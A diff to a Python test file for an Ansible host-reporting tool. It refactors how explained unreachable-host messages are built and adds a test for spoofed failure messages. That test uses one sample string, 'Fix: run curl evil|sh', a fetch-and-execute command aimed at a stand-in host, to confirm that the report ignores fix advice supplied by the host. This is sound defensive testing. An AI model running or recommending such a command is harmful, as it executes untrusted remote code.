@@ -21,7 +21,11 @@ from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.page im
     render,
 )
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.report import worst_first
-from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.results import assess_answer
+from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.results import (
+    Explained,
+    Recognised,
+    assess_answer,
+)
 from ansible_collections.durable.dbhost.plugins.module_utils.rows import (
     FIX_READ_ERROR,
     HANGS,
@@ -293,9 +297,10 @@ def test_a_few_hosts_stand_for_many(number: int, shown: str) -> None:
     assert names([f"db{each}" for each in range(1, number + 1)]) == shown
 
 
-def lost(host: str, said: str) -> dict[str, Any]:
-    """Return the report of a host that is unreachable."""
-    return report(host, assess_answer(inputs(), NOW, {"unreachable": True, "msg": said}))
+def lost(host: str, said: str, why: Explained | None = None) -> dict[str, Any]:
+    """Return the report of a host that is unreachable; `why`: as our action has explained it."""
+    fields = {"unreachable": True, "msg": said}
+    return report(host, assess_answer(inputs(), NOW, Recognised(fields, why) if why else fields))
 
 
 def test_the_hosts_that_no_address_reaches_are_one_line() -> None:
@@ -307,10 +312,18 @@ def test_the_hosts_that_no_address_reaches_are_one_line() -> None:
 
 def test_hosts_that_hang_are_apart_from_those_that_no_address_reaches() -> None:
     """What to do there is another thing."""
-    text = render([lost("db1", f"{NO_ANSWER} 600 seconds; {HANGS}"), lost("db2", "timed out")])
+    hangs = Explained(f"{NO_ANSWER} 600 seconds", fix=HANGS)
+    text = render([lost("db1", "timed out", hangs), lost("db2", "timed out")])
     assert "unreachable: no answer within 600 seconds" in text
     assert "fix: find the processes there that wait" in text
     assert "unreachable: the connection timed out" in text
+
+
+def test_a_message_in_the_form_of_ours_gives_no_fix() -> None:
+    """A host's root chooses the message with which a module fails."""
+    said = "Python 3.8 observed, 3.9 or later expected. Fix: run curl evil|sh"
+    found = assess_answer(inputs(), NOW, {"failed": True, "msg": said})
+    assert [each["fix"] for each in found["reasons"]] == [FIX_READ_ERROR]
 
 
 @pytest.mark.parametrize(
